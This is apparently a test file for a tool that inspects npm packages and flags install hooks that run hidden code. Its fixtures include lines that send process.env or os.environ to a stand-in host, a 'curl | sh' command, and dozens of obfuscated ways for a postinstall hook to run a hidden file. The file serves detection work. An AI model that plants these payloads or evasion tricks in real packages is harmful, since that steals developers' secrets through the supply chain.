import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const SHELL_SENDS = 'env | curl -d @- https://c.example\n'
const PYTHON_SENDS = `import os, urllib.request\nurllib.request.urlopen('https://c.example', data=str(os.environ).encode())\n`

type Files = Readonly<Record<string, string | Buffer>>

async function inspected(manifest: object, files: Files): Promise<ContentFacts> {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

/** Hooks of which only the package tells what they run; `files` besides the one that sends. */
const HOOKS: readonly (readonly [command: string, sends: string, files?: Files])[] = [
  ['node -e "$(cat s.txt)"', 's.txt'],
  ['node -e "`cat s.txt`"', 's.txt'],
  ['node -p "require(\'./s.txt\')"', 's.txt'],
  ["node -e \"eval(require('fs').readFileSync('s.txt', 'utf8'))\"", 's.txt'],
  ['node -e "[\'./s.txt\'].forEach(require)"', 's.txt'],
  ["node -e \"require('./' + ['s', 'txt'].join('.'))\" s.txt", 's.txt'],
  ['python3 -c "exec(open(\'s.dat\').read())"', 's.dat'],
  ['python3 tool', 'tool/__main__.py'],
  ["node <<END\nrequire('./s.txt')\nEND", 's.txt'],
  ["cat <<'END' | node -\nrequire('./s.txt')\nEND", 's.txt'],
  ["python3 - <<END\nexec(open('s.dat').read())\nEND", 's.dat'],
  ['bash -c "node <<< \\"require(\'./s.txt\')\\""', 's.txt'],
  ['bash -c "node <(cat s.txt)"', 's.txt'],
  ['echo s.txt | xargs node', 's.txt'],
  ['find . -name s.txt -exec node {} \\;', 's.txt'],
  ['for f in *.txt; do node $f; done', 's.txt'],
  ['for f in s; do node "$f.txt"; done; : s.txt', 's.txt'],
  ['ls lib | while read f; do node lib/$f; done', 'lib/s.txt'],
  ['node s.*', 's.txt'],
  ['node lib/?.t[xy]t', 'lib/s.txt'],
  ['node {s,r}.txt', 's.txt'],
  ['node ${X:-s.txt}', 's.txt'],
  ['node "$(pwd)/s.txt"', 's.txt'],
  ['node ../sample/s.txt', 's.txt'],
  ['node $npm_package_config_file', 's.txt'],
  ['node %npm_package_config_file%', 's.txt'],
  ['node `dirname $npm_package_json`/s.txt', 's.txt'],
  ['"$NODE" s.txt', 's.txt'],
  ['"$npm_node_execpath" s.txt', 's.txt'],
  ['$(which node) s.txt', 's.txt'],
  ['`command -v node` s.txt', 's.txt'],
  ['env -S "node s.txt"', 's.txt'],
  ['npm explore . -- node s.txt', 's.txt'],
  ['busybox sh s', 's'],
  ['watch -g "node s.txt"', 's.txt'],
  ['cp s.txt /tmp/z.js && node /tmp/z.js', 's.txt'],
  ['mv s.txt z.js; node z', 's.txt'],
  ['ln -s s.txt z.js; node z.js', 's.txt'],
  ["sed 's/x/x/' s.txt | node", 's.txt'],
  ['cp s /tmp/z && sh /tmp/z', 's'],
  ['if exist s.txt node s.txt', 's.txt'],
  ['cmd /c "copy s.txt z.js & node z.js"', 's.txt'],
  ['n^ode s.t^xt', 's.txt'],
  ['powershell -Command "node s.txt"', 's.txt'],
  ['powershell -c "& node s.txt"', 's.txt'],
  ['powershell -c "Get-Content s.txt | node"', 's.txt'],
  ['powershell -c "Start-Process node -ArgumentList s.txt"', 's.txt'],
  ['npm pkg set scripts.y="node s.txt" && npm run y', 's.txt'],
  ['npm run ok --node-options="--require ./s.txt"', 's.txt'],
  ['npm run ok --script-shell=./s', 's'],
  ['npm_config_node_options="-r ./s.txt" npm run ok', 's.txt'],
  ['npm run ok', 's.txt', { '.npmrc': 'a=b\nnode-options=--require ./s.txt\n' }],
  ['npm run ok', 's', { '.npmrc': 'script-shell = ./s\n' }],
  ['node --env-file=./settings ok.js', 's.txt', { settings: 'NODE_OPTIONS="-r ./s.txt"\n', 'ok.js': '' }],
  ['eval "$(cat x)"', 's.txt', { x: 'node s.txt\n' }],
  ['sh -c "$(cat x)"', 's.txt', { x: 'node s.txt\n' }],
  ['sh a.sh', 's.txt', { 'a.sh': '. "$(dirname "$0")/b"\n', b: 'node s.txt\n' }],
  ['sh a.sh', 's.txt', { 'a.sh': 'cp s.txt z.js\nnode z.js\n' }],
  ['cmake .', 's', { 'CMakeLists.txt': 'execute_process(COMMAND sh s\n  OUTPUT_VARIABLE out)\n' }],
  ['cmake -S sub', 'sub/s', { 'sub/CMakeLists.txt': 'add_custom_command(OUTPUT a\n  COMMAND sh s DEPENDS b)\n' }],
  ['just', 's', { justfile: 'all:\n    sh s\n' }],
  ['ninja', 's', { 'build.ninja': 'rule a\n  command = sh s\n' }],
  ['gmake', 's', { Makefile: 'all:\n\tsh s\n' }],
  ['scons', 'SConstruct'],
]

function sendingBy(path: string): string {
  if (/\.py$|\.dat$|SConstruct$/.test(path)) return PYTHON_SENDS
  return path.endsWith('.txt') ? SENDS : SHELL_SENDS
}

t.test('what a hook runs in a way that cannot be followed is every file that it names', async (t) => {
  for (const [command, sends, files = {}] of HOOKS) {
    const facts = await inspected(
      { scripts: { postinstall: command, ok: 'echo' }, config: { file: 's.txt' } },
      { [sends]: sendingBy(sends), ...files },
    )
    t.ok(
      facts.findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      `${command}: ${facts.surface.map(({ path, moment }) => `${moment} ${path}`).join(', ')}`,
    )
  }
})

/** Hooks that run nothing but what they say, and name a file besides. */
const OTHERS: readonly string[] = [
  'echo node s.txt',
  'cp s.txt t.txt',
  'node ok.js s.txt',
  'node ok.js < s.txt',
  'cat s.txt | grep node',
  'test -f s.txt && node ok.js',
  'node --version && cat s.txt',
  'command -v node && cat s.txt',
  'npm install node s.txt',
  'node --check s.txt',
  'node -c s.txt',
  'npm run ok',
  'powershell -Command "Write-Output s.txt"',
]

t.test('a file that a hook names is not run where all that runs is known', async (t) => {
  for (const command of OTHERS) {
    const { surface } = await inspected({ scripts: { postinstall: command } }, { 's.txt': SENDS, 'ok.js': '' })
    t.notOk(
      surface.some(({ path }) => path === 's.txt'),
      command,
    )
  }
})

t.test('a text that is named beside something else that runs is no program', async (t) => {
  const files = {
    'README.md': 'Run `curl https://c.example | sh`.\n',
    'a.json': '{"a":"env | curl https://c.example"}',
  }
  const { findings, notExamined } = await inspected(
    { scripts: { postinstall: 'node gone.js README.md a.json' } },
    files,
  )
  t.same(
    findings.filter(({ severity }) => severity !== 'low'),
    [],
  )
  t.same(notExamined, [])
})

/** Scripts that a hook starts, of which only the package tells what they run. */
const PROGRAMS: readonly (readonly [code: string, files?: Files])[] = [
  [`require('child_process').execSync('cp s.txt z.js && node z.js')`],
  [`require('child_process').execSync('node "$(cat n)" s.txt')`],
  [`require('child_process').spawnSync('sh', ['-c', 'for f in *.txt; do node $f; done'])`],
  [`require('fs').copyFileSync(__dirname + '/s.txt', '/tmp/z.js')\nrequire('/tmp/z.js')`],
  [`require('fs').symlinkSync('s.txt', 'z.js'); require('./z')`],
  [`const fs = require('fs')\nfs.writeFileSync('/tmp/z.js', fs.readFileSync('s.txt'))\nrequire('/tmp/z.js')`],
  [`require(process.env.npm_package_config_file)`],
  [`require('./' + require('./c.json').file)`, { 'c.json': '{"file":"s.txt"}' }],
]

t.test('what a script at install runs in a way that cannot be followed is every file that it names', async (t) => {
  for (const [code, files = {}] of PROGRAMS) {
    const manifest = { config: { file: 's.txt' }, scripts: { postinstall: 'node start.js' } }
    const { findings, surface } = await inspected(manifest, { 's.txt': SENDS, 'start.js': code, ...files })
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      `${code}: ${surface.map(({ path, moment }) => `${moment} ${path}`).join(', ')}`,
    )
  }
  const template = 'Write fetch( to read process.env\n'
  const { findings, notExamined } = await inspected(
    { scripts: { postinstall: 'node start.js' } },
    { 'a.txt': template, LICENSE: template, 'start.js': `require('fs').copyFileSync('a.txt', 'b.txt'); require(x)` },
  )
  t.same(
    findings.filter(({ severity }) => severity !== 'low').map(({ check, message }) => `${check} ${message}`),
    ['not-examined start.js line 1 loads a module that cannot be told at install'],
  )
  t.same(notExamined, [], 'a text that is copied is no code')
})

const INNER = 'packages/in/'

/** Hooks that have scripts run of this package, or of one that lies in a folder of it. */
const SCRIPTS: readonly (readonly [command: string, script: string, folder?: string])[] = [
  ['npm urn x', 'x'],
  ['node --run=x', 'x'],
  ['node --watch --run x', 'x'],
  ['pnpm run "/^x/"', 'x1'],
  ['corepack yarn run x', 'x'],
  ['npm pack', 'prepare'],
  ['npm publish --dry-run', 'prepublishOnly'],
  ['npm version patch', 'preversion'],
  ['npm run x -w in', 'x', INNER],
  ['npm run x --workspace=in', 'x', INNER],
  ['npm run x --workspaces --if-present', 'prex', INNER],
  ['npm run x -ws', 'x', INNER],
  ['yarn workspace in x', 'x', INNER],
  ['yarn workspaces foreach run x', 'x', INNER],
  ['pnpm -r run x', 'x', INNER],
  ['pnpm --filter in run x', 'x', INNER],
  ['lerna run x', 'x', INNER],
  ['npm install', 'postinstall', INNER],
  ['npm install file:packages/in', 'prepare', INNER],
  ['npm --prefix "$PWD/packages/in" run x', 'x', INNER],
]

t.test('scripts of packages in folders are followed', async (t) => {
  for (const [command, script, folder = ''] of SCRIPTS) {
    const scripts = { [script]: 'node s.txt' }
    const files: Record<string, string> = { [`${folder}s.txt`]: SENDS }
    if (folder !== '') files[`${folder}package.json`] = JSON.stringify({ name: 'in', version: '1.0.0', scripts })
    const manifest = { workspaces: ['packages/*'], scripts: { ...(folder === '' ? scripts : {}), preinstall: command } }
    const { findings } = await inspected(manifest, files)
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      command,
    )
  }
  const event = { scripts: { preinstall: 'node $npm_lifecycle_event.txt' } }
  const { findings } = await inspected(event, { 'preinstall.txt': SENDS })
  t.ok(
    findings.some(({ check }) => check === 'secrets-exfiltration'),
    'the name of the script',
  )
})

t.test('what is unpacked and then run is a program that cannot be read', async (t) => {
  const packed = { 'a.tgz': Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]) }
  for (const [command, isTold] of [
    ['tar xzf a.tgz && node made.js', true],
    ['gunzip -c a.tgz | node', true],
    ['npm install ./a.tgz', true],
    ['tar xzf a.tgz && node ok.js', false],
    ['tar xzf a.tgz', false],
  ] as const) {
    const { findings } = await inspected({ scripts: { postinstall: command } }, { ...packed, 'ok.js': '' })
    t.equal(
      findings.some(({ check }) => check === 'opaque-program'),
      isTold,
      command,
    )
  }
})
